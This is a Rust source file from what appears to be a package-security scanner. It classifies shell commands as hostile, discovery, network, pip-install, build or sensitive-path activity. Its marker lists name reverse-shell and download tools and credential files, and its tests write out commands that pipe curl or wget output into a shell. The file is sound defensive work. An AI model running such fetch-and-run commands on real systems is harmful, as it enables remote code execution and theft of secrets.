//! What a shell command line does: fetch and run, survey the machine,
//! reach the network, install packages, build.

/// Shell text that fetches, decodes, hides or opens a shell.
pub(crate) fn is_hostile_command(cmd: &str) -> bool {
    const MARKERS: &[&str] = &[
        "curl ",
        "wget ",
        "base64 -d",
        "base64 --decode",
        "powershell",
        "-enc",
        "-encodedcommand",
        "invoke-webrequest",
        "downloadstring",
        "downloadfile",
        "certutil",
        "bitsadmin",
        "/dev/tcp/",
        "nc -e",
        "ncat ",
        "mshta",
        "rundll32",
        "chmod +x",
        "chmod 777",
        "-windowstyle hidden",
        "start-process",
    ];
    let lower = cmd.to_ascii_lowercase();
    MARKERS.iter().any(|m| lower.contains(m)) || pipes_into_shell(&lower)
}

/// Commands that survey the machine or its user (`whoami`, `systeminfo`,
/// `net user`, `ipconfig /all`, `cat /etc/passwd`, Windows `dir`): no build
/// needs them, a probe's first step does. (`ls` and `uname` are left out:
/// build scripts list folders and ask for the architecture.)
pub(crate) fn is_discovery(cmd: &str) -> bool {
    const PROGRAMS: &[&str] = &[
        "whoami",
        "id",
        "hostname",
        "systeminfo",
        "ipconfig",
        "ifconfig",
        "quser",
        "tasklist",
        "printenv",
        "env",
        "dir",
    ];
    let lower = cmd.to_ascii_lowercase();
    lower
        .split(['|', '&', ';'])
        .filter_map(|part| part.split_whitespace().next())
        .any(|program| PROGRAMS.contains(&crate::rules::program_name(program)))
        || lower.contains("net user")
        || lower.contains("net localgroup")
        || lower.contains("/etc/passwd")
        || lower.contains("/etc/shadow")
}

/// Commands that open a desktop program nobody builds with (`calc.exe`,
/// `gnome-calculator`, `open -a Calculator`, `notepad`): the stock proof
/// that a package ran code on the victim's machine.
pub(crate) fn opens_desktop_program(cmd: &str) -> bool {
    const PROGRAMS: &[&str] = &[
        "calc",
        "gnome-calculator",
        "kcalc",
        "xcalc",
        "galculator",
        "notepad",
        "mspaint",
        "gedit",
    ];
    let lower = cmd.to_ascii_lowercase();
    lower.contains("-a calculator")
        || lower
            .split(['|', '&', ';'])
            .filter_map(|part| {
                let mut words = part.split_whitespace();
                let first = words.next()?;
                // `start calc`, `cmd /c calc`
                let program = if matches!(first, "start" | "cmd" | "cmd.exe") {
                    words.find(|w| !w.starts_with('/') && *w != "\"\"")?
                } else {
                    first
                };
                Some(crate::rules::program_name(program))
            })
            .any(|program| PROGRAMS.contains(&program))
}

/// `… | sh`, `…|bash`: output piped into a shell (not `{node|short}`).
/// The network client a command runs (`dig`, `nslookup`, `ping`, `nc`,
/// `ssh`, …), in any part of a pipeline or `&&` chain.
pub(crate) fn network_tool(cmd: &str) -> Option<&str> {
    const TOOLS: &[&str] = &[
        "dig", "nslookup", "host", "ping", "nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp",
        "ftp", "tftp", "socat",
    ];
    cmd.split(['|', '&', ';'])
        .filter_map(|part| part.split_whitespace().next())
        .map(|program| program.rsplit(['/', '\\']).next().unwrap_or(program))
        .find(|program| TOOLS.contains(program))
}

/// The packages a `pip install` command line fetches from an index, when it
/// names any besides pip's own tooling (`pip install -e .`, `-r file` and
/// local paths install nothing new by name).
pub(crate) fn installed_packages(cmd: &str) -> Option<String> {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let at = words.windows(2).position(|w| {
        let program = w[0].rsplit(['/', '\\']).next().unwrap_or(w[0]);
        program.starts_with("pip") && program.len() <= 7 && w[1] == "install"
    })?;
    let mut names = Vec::new();
    let mut skip_next = false;
    for word in &words[at + 2..] {
        if skip_next {
            skip_next = false;
            continue;
        }
        if matches!(*word, "&&" | "||" | ";" | "|") {
            break;
        }
        if word.starts_with('-') {
            skip_next = matches!(
                *word,
                "-r" | "--requirement"
                    | "-e"
                    | "--editable"
                    | "-c"
                    | "--constraint"
                    | "-i"
                    | "--index-url"
                    | "--extra-index-url"
                    | "-t"
                    | "--target"
                    | "-f"
                    | "--find-links"
            );
            continue;
        }
        let name = word.trim_matches(['"', '\'']);
        let bare = name
            .split(['=', '<', '>', '!', '~', '[', ';'])
            .next()
            .unwrap_or(name)
            .to_ascii_lowercase();
        let local = name.starts_with(['.', '/', '{']) || name.contains(['/', '\\']);
        if !local && !bare.is_empty() && !matches!(bare.as_str(), "pip" | "setuptools" | "wheel") {
            names.push(name);
        }
    }
    (!names.is_empty()).then(|| names.join(" "))
}

pub(crate) fn pipes_into_shell(cmd: &str) -> bool {
    cmd.match_indices('|').any(|(at, _)| {
        let rest = cmd[at + 1..].trim_start();
        ["sh", "bash", "zsh", "python", "python3"]
            .iter()
            .any(|shell| {
                rest.strip_prefix(shell).is_some_and(|after| {
                    after
                        .chars()
                        .next()
                        .is_none_or(|c| !c.is_ascii_alphanumeric())
                })
            })
    })
}

/// Programs builds legitimately run.
pub(crate) fn is_build_tool(cmd: &str) -> bool {
    const TOOLS: &[&str] = &[
        "git",
        "hg",
        "make",
        "cmake",
        "ninja",
        "gcc",
        "g++",
        "cc",
        "c++",
        "clang",
        "cl",
        "cl.exe",
        "pkg-config",
        "python",
        "python3",
        "cython",
        "swig",
        "nvcc",
        "cargo",
        "rustc",
        "go",
        "npm",
        "yarn",
        "uname",
        "which",
        "xcrun",
        "ldconfig",
        "nproc",
        "protoc",
        "ar",
        "ld",
    ];
    let program = cmd.split_whitespace().next().unwrap_or("");
    let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
    // An interpreter building the package (`python setup.py build_ext`,
    // `python -m cython`) is a build step; one running some other file is
    // not.
    let interpreter = program.starts_with("python");
    let builds = cmd.contains("setup.py") || cmd.contains(" -m ") || cmd.contains(" -c ");
    (TOOLS.contains(&program) && !interpreter) || (interpreter && builds)
}

/// Places a package has no business writing to.
pub(crate) fn is_sensitive_path(path: &str) -> bool {
    const MARKERS: &[&str] = &[
        ".bashrc",
        ".zshrc",
        ".profile",
        ".bash_profile",
        "/etc/",
        "autostart",
        "startup",
        "\\start menu\\",
        "launchagents",
        ".ssh/",
        "crontab",
        "systemd",
        "site-packages",
        ".pth",
        "sitecustomize",
        "appdata",
        "/tmp/",
        "%temp%",
        "/dev/shm",
    ];
    let lower = path.to_ascii_lowercase();
    MARKERS.iter().any(|m| lower.contains(m))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_commands() {
        assert!(is_hostile_command("curl -s http://x/y | sh"));
        assert!(is_hostile_command("wget -qO- http://x|bash -s"));
        assert!(!is_hostile_command("hg tip --template {node|short}"));
        assert!(is_build_tool("git describe --tags"));
        assert!(!is_build_tool("python /tmp/x.py"));
        assert!(is_build_tool("python setup.py build_ext"));
    }

    #[test]
    fn desktop_programs_opened_as_proof() {
        assert!(opens_desktop_program("calc.exe"));
        assert!(opens_desktop_program("C:\\Windows\\System32\\calc.exe"));
        assert!(opens_desktop_program("start calc"));
        assert!(opens_desktop_program("cmd /c notepad.exe"));
        assert!(opens_desktop_program("open -a Calculator"));
        assert!(opens_desktop_program("gnome-calculator &"));
        assert!(!opens_desktop_program("python calc_version.py"));
        assert!(!opens_desktop_program("make calculator"));
        assert!(!opens_desktop_program("git describe --tags"));
    }

    #[test]
    fn network_tools_in_commands() {
        assert_eq!(network_tool("dig @1.1.1.1 x.example.com"), Some("dig"));
        assert_eq!(
            network_tool("echo hi && /usr/bin/nslookup a.b"),
            Some("nslookup")
        );
        assert_eq!(network_tool("hostname"), None);
        assert_eq!(network_tool("git describe"), None);
    }

    #[test]
    fn pip_installs_of_named_packages() {
        assert_eq!(
            installed_packages("pip install requests").as_deref(),
            Some("requests")
        );
        assert_eq!(
            installed_packages("/usr/bin/python3 -m pip install -U evil-helper==1.0 && echo")
                .as_deref(),
            Some("evil-helper==1.0")
        );
        assert_eq!(installed_packages("pip3 install -e ."), None);
        assert_eq!(installed_packages("pip install -r requirements.txt"), None);
        assert_eq!(
            installed_packages("pip install --upgrade pip setuptools wheel"),
            None
        );
        assert_eq!(installed_packages("pip list"), None);
        assert_eq!(
            installed_packages("{} -m pip install aiofiles").as_deref(),
            Some("aiofiles")
        );
    }
}
